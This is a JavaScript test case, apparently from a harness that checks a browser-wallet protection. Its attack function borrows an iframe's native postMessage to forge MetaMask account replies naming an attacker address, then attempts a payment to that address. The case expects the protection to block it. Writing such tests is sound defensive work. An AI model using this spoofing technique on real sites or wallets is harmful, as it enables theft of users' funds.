// H17: a cross-origin frame lends its native postMessage for a forged account answer, which comes before the genuine one.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'H17',
  title: 'forged account answer by a borrowed postMessage, then a payment to that account',
  source: 'fresh-realm postMessage',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts');
    document.documentElement.append(frame);
    const post = frame.contentWindow.postMessage;
    const forge = (event) => {
      const rpc = event.data?.data?.data;
      if (event.data?.target !== 'metamask-contentscript' || !/^eth_(requestA|a)ccounts$/.test(rpc?.method)) return;
      const data = { name: 'metamask-provider', data: { jsonrpc: '2.0', id: rpc.id, result: [a.EVIL] } };
      post.call(window, { target: 'metamask-inpage', data }, location.origin);
    };
    window.addEventListener('message', forge, true);
    const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' }).catch((error) => error.code);
    await window.ethereum
      .request({ method: 'eth_sendTransaction', params: [{ from: a.USER, to: a.EVIL, value: '0x5' }] })
      .catch((error) => error.code);
    window.removeEventListener('message', forge, true);
    return { accounts };
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  // The forged answer makes nobody the user's own account, so the payment is refused as any other.
  violation: (a) => ({ surface: 'eip1193', role: 'payee', account: a.EVIL }),
};
